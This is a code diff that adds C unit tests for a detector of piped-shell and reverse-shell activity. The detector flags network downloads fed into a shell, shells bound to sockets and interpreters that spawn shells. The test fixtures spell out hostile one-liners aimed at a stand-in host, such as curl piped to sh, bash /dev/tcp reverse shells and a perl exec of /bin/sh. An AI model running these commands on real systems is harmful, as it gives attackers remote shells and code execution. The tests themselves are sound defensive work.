@@ -1,4 +1,5 @@
 /* test_piped_shell.c: R4, each rule with a hit and the nearest miss. */
+#include <sys/socket.h>
 #include "facts.h"
 
 static void given(const char *string)
@@ -96,6 +97,129 @@ static void only_the_test_process_gives(void **s)
 	assert_int_equal(report.n, 0);
 }
 
+static void fed(unsigned origins, const struct detector *d)
+{
+	static char first[] = "curl\0-s\0http://h/i";
+	struct process curl = {
+		.origins = origins, .args = first, .args_len = sizeof(first), .argc = 3
+	};
+	struct process *sh = process_new("sh", ROLE_SHELL, ARGV("sh"));
+	struct pipe_line line = { { &curl, sh }, 2 };
+	struct fact f = { .kind = FACT_FED, .run = &run, .process = sh, .line = &line };
+
+	sh->origins = origins;
+	report_reset(&report);
+	d->look(&f, &report);
+}
+
+static void a_download_feeds_an_interpreter(void **s)
+{
+	(void)s;
+	fed(ORIGIN_NETWORK, &detect_piped_shell);
+	check_hit("R4.4");
+	assert_string_equal(found("R4.4")->subject.ptr, "curl -s http://h/i | sh");
+	fed(ORIGIN_DECODER, &detect_piped_shell);
+	assert_int_equal(report.n, 0);
+	fed(ORIGIN_DECODER, &detect_encoded_payload);
+	check_hit("R2.3");
+	fed(ORIGIN_NETWORK, &detect_encoded_payload);
+	assert_int_equal(report.n, 0);
+}
+
+static void a_shell_feeds_on_a_network_socket(void **s)
+{
+	struct process *p = process_new("sh", ROLE_SHELL, ARGV("sh", "-i"));
+
+	(void)s;
+	p->fd[0] = p->fd[1] = (struct ev_fd){ .kind = FD_SOCKET, .ino = 7, .family = AF_INET };
+	exec_look(&detect_piped_shell, p);
+	check_hit("R4.5");
+	p->fd[1].ino = 8;
+	exec_look(&detect_piped_shell, p);
+	check_miss("R4.5");
+	p->fd[0] = p->fd[1] = (struct ev_fd){ .kind = FD_SOCKET, .ino = 7, .family = AF_UNIX };
+	exec_look(&detect_piped_shell, p);
+	check_miss("R4.5");
+	parent.roles = ROLE_NETWORK_CLIENT; /* socat EXEC:sh */
+	exec_look(&detect_piped_shell, p);
+	check_hit("R4.5");
+	parent.roles = ROLE_SHELL;
+	parent.inet = true;
+	p = process_new("cat", 0, ARGV("cat"));
+	p->fd[0] = (struct ev_fd){ .kind = FD_SOCKET, .ino = 7, .family = AF_INET6 };
+	exec_look(&detect_piped_shell, p);
+	check_hit("R4.5");
+	parent.inet = false;
+	exec_look(&detect_piped_shell, p);
+	check_miss("R4.5");
+	parent.roles = ROLE_TEST | ROLE_INTERPRETER;
+}
+
+static void connected(const char *string)
+{
+	struct fact f = { .kind = FACT_INET, .run = &run };
+
+	f.process = process_new("bash", ROLE_SHELL, ARGV("bash", "-c", string));
+	report_reset(&report);
+	detect_piped_shell.look(&f, &report);
+}
+
+static void a_shell_that_connects_by_itself(void **s)
+{
+	(void)s;
+	connected("exec 3<>/dev/tcp/h/1; read l <&3; eval $l");
+	check_hit("R4.5");
+	connected("bash -i >& /dev/tcp/h/1 0>&1");
+	check_hit("R4.5");
+	connected("echo > /dev/tcp/h/1"); /* is it up? */
+	check_miss("R4.5");
+}
+
+static void started_by(const char *starter, const char *script, const char *string)
+{
+	struct process *p = process_new("sh", ROLE_SHELL, ARGV("sh", "-c", string));
+
+	parent.name = (char *)starter;
+	parent.script = (char *)script;
+	parent.executed = true;
+	exec_look(&detect_piped_shell, p);
+	parent.name = (char *)"python3";
+	parent.script = (char *)"test_server.py";
+}
+
+static void an_interpreter_starts_a_shell(void **s)
+{
+	static char one_liner[] = "perl\0-e\0exec q(/bin/sh)";
+	struct process *p;
+
+	(void)s;
+	started_by("mawk", NULL, "id");
+	check_hit("R4.6");
+	started_by("make", NULL, "id");
+	check_miss("R4.6");
+	started_by("tar", NULL, "sh x");
+	check_hit("R4.6");
+	started_by("tar", NULL, "gzip -d");
+	check_miss("R4.6");
+	started_by("tar", NULL, "gzip -d; sh x");
+	check_hit("R4.6");
+	parent.args = one_liner;
+	parent.args_len = sizeof(one_liner);
+	parent.argc = 3;
+	started_by("perl", NULL, "id");
+	check_hit("R4.6");
+	started_by("perl", "debhelper", "id");
+	check_miss("R4.6");
+	parent.args = NULL;
+	parent.args_len = parent.argc = 0;
+	p = process_new("sh", ROLE_SHELL, ARGV("sh"));
+	exec_look(&detect_piped_shell, p);
+	check_miss("R4.6");
+	p->before = (char *)"perl";
+	exec_look(&detect_piped_shell, p);
+	check_hit("R4.6");
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -104,6 +228,10 @@ int main(void)
 		cmocka_unit_test(a_string_with_control_is_medium),
 		cmocka_unit_test(flags_do_not_hide_the_string),
 		cmocka_unit_test(only_the_test_process_gives),
+		cmocka_unit_test(a_download_feeds_an_interpreter),
+		cmocka_unit_test(a_shell_feeds_on_a_network_socket),
+		cmocka_unit_test(a_shell_that_connects_by_itself),
+		cmocka_unit_test(an_interpreter_starts_a_shell),
 	};
 
 	return FACT_TESTS(tests);
